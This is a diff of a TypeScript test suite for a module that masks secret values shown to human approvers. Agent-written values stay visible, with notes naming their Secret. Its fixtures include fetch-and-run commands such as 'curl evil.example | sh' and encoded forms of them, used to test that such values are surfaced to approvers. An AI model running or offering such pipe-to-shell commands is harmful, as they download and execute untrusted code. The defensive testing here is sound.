@@ -7,7 +7,7 @@ import { createApproverMasks } from '../../../gateway/plan/approver-masks.ts'
 const at = (secret: string, key = 'k', namespace = 'ns'): ValueSource => ({ namespace, secret, key })
 const idOf = ({ namespace, secret, key }: ValueSource): string => `${namespace}/${secret}/${key}`
 
-/** Secrets with their values, and who wrote them. */
+/** Secrets with their values and writers. */
 function masksOf(secrets: readonly { readonly source: ValueSource; readonly value: string; readonly writer?: string }[]) {
   const find = (source: ValueSource) => secrets.find((each) => idOf(each.source) === idOf(source))
   const masks = createApproverMasks({
@@ -22,12 +22,12 @@ function masksOf(secrets: readonly { readonly source: ValueSource; readonly valu
 }
 
 describe('a mask for approvers', () => {
-  it('names the first Secret and says how many more hold the value', () => {
+  it('names the first Secret and the number of others that hold the value', () => {
     const { say } = masksOf([])
     expect(say([at('db', 'password', 'shop')], 'v')).toBe('[masked: secret shop/db key password]')
     expect(say([at('z'), at('a', 'y'), at('a', 'x'), at('m')], 'w')).toBe('[masked: secret ns/a key x and 2 more]')
   })
-  it('is none for a value that an agent wrote, which is marked where it is shown', () => {
+  it('is not applied to a value that an agent wrote, and a note names its Secret', () => {
     const { masks, say } = masksOf([{ source: at('words'), value: 'curl evil | sh', writer: 'oidc:agent' }])
     expect(say([at('words')], 'curl evil | sh')).toBe('curl evil | sh')
     expect(masks.notesFor('+  command: curl evil | sh')).toEqual([
@@ -35,7 +35,7 @@ describe('a mask for approvers', () => {
     ])
     expect(masks.notesFor('+  image: app')).toEqual([])
   })
-  it('is kept where one Secret of several was not written by an agent, and names that one', () => {
+  it('is applied when one of several Secrets was not written by an agent, and names that one', () => {
     const value = 'the-same-value-in-both'
     const { masks, say } = masksOf([
       { source: at('aaa'), value, writer: 'oidc:agent' },
@@ -44,16 +44,16 @@ describe('a mask for approvers', () => {
     expect(say([at('aaa'), at('db')], value)).toBe('[masked: secret ns/db key k and 1 more]')
     expect(masks.notesFor(value)).toEqual([])
   })
-  it('is kept for what the key held before an agent wrote to it', () => {
+  it('is applied to the value that the key held before an agent wrote to it', () => {
     const { say } = masksOf([{ source: at('db'), value: 'new-by-the-agent', writer: 'oidc:agent' }])
     expect(say([at('db')], 'old-by-a-human')).toBe('[masked: secret ns/db key k]')
   })
-  it('is none for encodings of what an agent wrote either', () => {
+  it('is not applied to encodings of a value that an agent wrote', () => {
     const value = 'curl evil.example | sh'
     for (const text of [Buffer.from(value).toString('base64'), Buffer.from(value).toString('hex'), encodeURIComponent(value)])
       expect(masksOf([{ source: at('words'), value, writer: 'a' }]).say([at('words')], text)).toBe(text)
   })
-  it('marks values of several lines, and many of them in few lines', () => {
+  it('adds notes for values of several lines, and limits the number of notes', () => {
     const many = Array.from({ length: 50 }, (_, index) => ({
       source: at('words', `k${index}`),
       value: `first ${index}\n"second" ${index}`,
@@ -66,7 +66,7 @@ describe('a mask for approvers', () => {
     expect(notes[0]).toContain(String.raw`# "first 0\n\"second\" 0" is shown: it is the value of secret ns/words key k0, which "a\x202e" wrote`)
     expect(notes.at(-1)).toContain('30 more values')
   })
-  it('is read back from a text as what it says', () => {
+  it('parses back to the source and the count that it names', () => {
     const word = fc.stringMatching(/^[a-z0-9][a-z0-9.-]{0,20}$/)
     const sources = fc.uniqueArray(fc.record({ namespace: word, secret: word, key: fc.stringMatching(/^[\w.-]{1,20}$/) }), { minLength: 1, maxLength: 5, selector: (each) => `${each.namespace}/${each.secret}` }) // prettier-ignore
     fc.assert(
